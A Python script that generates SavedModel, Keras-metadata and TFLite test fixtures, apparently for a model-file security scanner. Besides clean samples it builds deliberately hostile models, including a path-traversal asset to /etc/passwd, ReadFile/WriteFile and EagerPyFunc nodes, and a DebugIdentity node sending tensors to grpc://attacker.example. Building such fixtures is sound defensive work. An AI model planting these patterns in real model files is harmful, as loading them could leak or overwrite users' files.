#!/usr/bin/python3
"""Generates the SavedModel, keras_metadata.pb and TFLite test fixtures byte by byte.

Run from this directory: /usr/bin/python3 gen_tensorflow.py
No TensorFlow is installed or needed: SavedModel and keras_metadata protobufs are written with the tiny encoder below
(field numbers from tensorflow/core/protobuf/saved_model.proto, meta_graph.proto, framework/graph.proto,
function.proto, node_def.proto, attr_value.proto, op_def.proto and keras/protobuf/saved_metadata.proto); TFLite
flatbuffers with flatbuffers.Builder and the table layout of tensorflow/lite/schema/schema.fbs (Model, OperatorCode,
Buffer). Payloads are harmless strings; nothing is executed.
"""
import io
import json
import struct
import zipfile

import flatbuffers


# ---- protobuf wire format -------------------------------------------------------------------------------------------
def varint(v):
    out = bytearray()
    while True:
        b = v & 0x7F
        v >>= 7
        if v:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def f_varint(field, v):
    return varint(field << 3) + varint(v)


def f_bytes(field, payload):
    if isinstance(payload, str):
        payload = payload.encode("utf-8")
    return varint(field << 3 | 2) + varint(len(payload)) + payload


def attr(key, value):  # NodeDef.attr map entry: 1 key, 2 AttrValue
    return f_bytes(5, f_bytes(1, key) + f_bytes(2, value))


def attr_s(s):  # AttrValue.s
    return f_bytes(2, s)


def attr_list_s(values):  # AttrValue.list (ListValue.s repeated)
    return f_bytes(1, b"".join(f_bytes(2, v) for v in values))


def attr_func(name):  # AttrValue.func (NameAttrList.name)
    return f_bytes(10, f_bytes(1, name))


def node(name, op, inputs=(), attrs=b""):  # NodeDef: 1 name, 2 op, 3 input, 5 attr
    return f_bytes(1, name) + f_bytes(2, op) + b"".join(f_bytes(3, i) for i in inputs) + attrs


def function(name, nodes):  # FunctionDef: 1 signature (OpDef.name = 1), 3 node_def
    return f_bytes(1, f_bytes(1, name)) + b"".join(f_bytes(3, n) for n in nodes)


def graph_def(nodes=(), functions=()):  # GraphDef: 1 node, 2 library (FunctionDefLibrary.function = 1)
    lib = b"".join(f_bytes(1, f) for f in functions)
    return b"".join(f_bytes(1, n) for n in nodes) + (f_bytes(2, lib) if functions else b"") \
        + f_bytes(4, f_varint(1, 1087))  # versions.producer


def saved_model(graph, assets=()):
    # SavedModel: 1 schema version, 2 meta_graphs; MetaGraphDef: 1 meta_info_def, 2 graph_def, 5 signature_def,
    # 6 asset_file_def (AssetFileDef: 1 tensor_info, 2 filename)
    meta_info = f_bytes(4, "serve") + f_bytes(5, "2.13.0")
    signature = f_bytes(5, f_bytes(1, "serving_default") + f_bytes(2, f_bytes(3, "tensorflow/serving/predict")))
    asset_defs = b"".join(f_bytes(6, f_bytes(1, f_bytes(1, "asset_path:0")) + f_bytes(2, a)) for a in assets)
    meta_graph = f_bytes(1, meta_info) + f_bytes(2, graph) + signature + asset_defs
    return f_varint(1, 1) + f_bytes(2, meta_graph)


def write(name, data):
    with open(name, "wb") as f:
        f.write(data)


const_path = attr("value", f_bytes(8, f_varint(1, 7) + f_bytes(8, "/etc/passwd")))  # tensor{dtype STRING, string_val}
serve_nodes = [node("x", "Placeholder"), node("w", "Const", attrs=attr("value", f_bytes(8, f_varint(1, 1)))),
               node("add", "AddV2", ["x", "w"]), node("out", "Identity", ["add"])]
saver_fns = [
    function("__inference__traced_save_99", [node("ShardedFilename", "ShardedFilename"),
                                             node("SaveV2", "SaveV2"),
                                             node("MergeV2Checkpoints", "MergeV2Checkpoints")]),
    function("__inference__traced_restore_100", [node("RestoreV2", "RestoreV2"), node("Identity", "Identity")]),
]
tf1_saver = [node("save/filename", "PlaceholderWithDefault"), node("save/SaveV2", "SaveV2"),
             node("save/RestoreV2", "RestoreV2")]
call = node("call", "StatefulPartitionedCall", ["x"], attr("f", attr_func("__inference_serve_42")))

# Clean: TF2 layout (serving function + saver functions) plus TF1 saver nodes in the graph.
write("clean_saved_model.pb", saved_model(graph_def(
    [node("x", "Placeholder"), call] + tf1_saver,
    [function("__inference_serve_42", serve_nodes)] + saver_fns), assets=["vocab.txt", "sub/../labels.txt"]))

# An asset filename that climbs out of assets/, and an op from a custom op library.
write("asset_traversal_custom_op_saved_model.pb", saved_model(graph_def(
    [node("x", "Placeholder"), node("gt", "Addons>GatherTree", ["x"])]), assets=["../../../../etc/passwd"]))

# ReadFile in the main graph (TF1 style).
write("readfile_saved_model.pb", saved_model(graph_def(
    [node("path", "Const", attrs=const_path), node("read", "ReadFile", ["path"])] + tf1_saver)))

# WriteFile hidden in the function library (TF2 style).
write("writefile_in_function_saved_model.pb", saved_model(graph_def(
    [node("x", "Placeholder"), call],
    [function("__inference_serve_42", serve_nodes + [node("path", "Const", attrs=const_path),
                                                      node("wf", "WriteFile", ["path", "x"])])] + saver_fns)))

# EagerPyFunc (tf.py_function).
write("pyfunc_saved_model.pb", saved_model(graph_def(
    [node("x", "Placeholder"), call],
    [function("__inference_serve_42", serve_nodes + [node("py", "EagerPyFunc", ["x"],
                                                          attr("token", attr_s("pyfunc_0")))])] + saver_fns)))

# PrintV2 to a file and DebugIdentity to a gRPC endpoint.
write("print_and_debug_saved_model.pb", saved_model(graph_def(
    [node("x", "Placeholder"),
     node("p", "PrintV2", ["x"], attr("output_stream", attr_s("file:///tmp/pwned.txt"))),
     node("d", "DebugIdentity", ["x"], attr("debug_urls", attr_list_s(["grpc://attacker.example:6064"])))])))

# RestoreV2 outside the saver: a serving function that restores tensors from a path of its choosing.
write("restore_outside_saver_saved_model.pb", saved_model(graph_def(
    [node("x", "Placeholder"), call],
    [function("__inference_serve_42", serve_nodes + [node("r", "RestoreV2")])] + saver_fns)))


# ---- keras_metadata.pb ----------------------------------------------------------------------------------------------
def saved_object(node_id, path, identifier, metadata):
    # SavedObject: 1 version (VersionDef.producer = 1), 2 node_id, 3 node_path, 4 identifier, 5 metadata
    return f_bytes(1, f_varint(1, 1)) + f_varint(2, node_id) + f_bytes(3, path) + f_bytes(4, identifier) \
        + f_bytes(5, json.dumps(metadata))


def keras_metadata(objects):
    return b"".join(f_bytes(1, o) for o in objects)


model_meta = {"name": "model", "class_name": "Sequential", "is_graph_network": True,
              "config": {"name": "model", "layers": []}}
dense_meta = {"name": "dense", "trainable": True, "class_name": "Dense",
              "config": {"name": "dense", "units": 4, "activation": "relu"}}
write("clean_keras_metadata.pb", keras_metadata([
    saved_object(0, "root", "_tf_keras_sequential", model_meta),
    saved_object(1, "root.layer_with_weights-0", "_tf_keras_layer", dense_meta)]))

lambda_meta = {"name": "lambda", "class_name": "Lambda",
               "config": {"name": "lambda", "function": ["cHduZWQ= (placeholder, not bytecode)", None, None],
                          "function_type": "lambda", "module": "__main__", "output_shape": None}}
custom_meta = {"name": "custom", "class_name": "MyLayer", "config": {"name": "custom"},
               "module": "evil_pkg.layers", "registered_name": "evil>MyLayer"}
write("lambda_keras_metadata.pb", keras_metadata([
    saved_object(0, "root", "_tf_keras_sequential", model_meta),
    saved_object(1, "root.layer-0", "_tf_keras_layer", lambda_meta),
    saved_object(2, "root.layer-1", "_tf_keras_layer", custom_meta)]))


# ---- TFLite ---------------------------------------------------------------------------------------------------------
def tflite(op_codes, buffers=((b"", 0, 0), (b"\0" * 16, 0, 0))):
    """op_codes: (deprecated_builtin_code or None, builtin_code or None, custom_code or None)."""
    b = flatbuffers.Builder(1024)
    desc = b.CreateString("modelscan test")
    codes = []
    for dep, builtin, custom in op_codes:
        cc = b.CreateString(custom) if custom is not None else None
        b.StartObject(4)
        if dep is not None:
            b.PrependInt8Slot(0, dep, 0)
        if cc is not None:
            b.PrependUOffsetTRelativeSlot(1, cc, 0)
        b.PrependInt32Slot(2, 1, 1)
        if builtin is not None:
            b.PrependInt32Slot(3, builtin, 0)
        codes.append(b.EndObject())
    bufs = []
    for data, offset, size in buffers:
        dv = None
        if data:
            b.StartVector(1, len(data), 16)
            for byte in reversed(data):
                b.PrependByte(byte)
            dv = b.EndVector()
        b.StartObject(3)
        if dv is not None:
            b.PrependUOffsetTRelativeSlot(0, dv, 0)
        if offset:
            b.PrependUint64Slot(1, offset, 0)
            b.PrependUint64Slot(2, size, 0)
        bufs.append(b.EndObject())
    b.StartObject(1)  # an empty SubGraph
    sub = b.EndObject()

    def vec(items):
        b.StartVector(4, len(items), 4)
        for it in reversed(items):
            b.PrependUOffsetTRelative(it)
        return b.EndVector()

    codes_v, subs_v, bufs_v = vec(codes), vec([sub]), vec(bufs)
    b.StartObject(5)
    b.PrependUint32Slot(0, 3, 0)
    b.PrependUOffsetTRelativeSlot(1, codes_v, 0)
    b.PrependUOffsetTRelativeSlot(2, subs_v, 0)
    b.PrependUOffsetTRelativeSlot(3, desc, 0)
    b.PrependUOffsetTRelativeSlot(4, bufs_v, 0)
    b.Finish(b.EndObject(), file_identifier=b"TFL3")
    return bytes(b.Output())


ADD, CONV_2D, CUSTOM = 0, 3, 32
clean = tflite([(ADD, ADD, None), (CONV_2D, CONV_2D, None), (CUSTOM, CUSTOM, "TFLite_Detection_PostProcess")])
write("clean.tflite", clean)
write("custom_op.tflite", tflite([(ADD, ADD, None), (CUSTOM, CUSTOM, "MyNativeOp")]))
# FlexReadFile (old-style codes) and FlexAddV2 (new style: only builtin_code set).
write("flex_ops.tflite", tflite([(CUSTOM, CUSTOM, "FlexReadFile"), (None, CUSTOM, "FlexAddV2"),
                                 (CUSTOM, CUSTOM, "FlexEagerPyFunc")]))
write("bad_buffer.tflite", tflite([(ADD, ADD, None)], [(b"", 0, 0), (b"", 1_000_000, 64)]))

# TFLite Support metadata style: the associated files are a zip appended to the model.
out = io.BytesIO(clean)
out.seek(0, 2)
with zipfile.ZipFile(out, "a") as z:
    z.writestr(zipfile.ZipInfo("labels.txt", date_time=(2026, 1, 1, 0, 0, 0)), "cat\ndog\n")  # reproducible
write("with_associated_files.tflite", out.getvalue())

# 60 distinct custom operators: the report is capped at 50 per rule plus a summary.
write("many_custom_ops.tflite", tflite([(CUSTOM, CUSTOM, "Custom%02d" % i) for i in range(60)]))
# A buffer offset with the top bit set (u64 read as negative by a signed reader).
write("bad_buffer_huge_offset.tflite", tflite([(ADD, ADD, None)], [(b"", 0, 0), (b"", 1 << 63, 64)]))
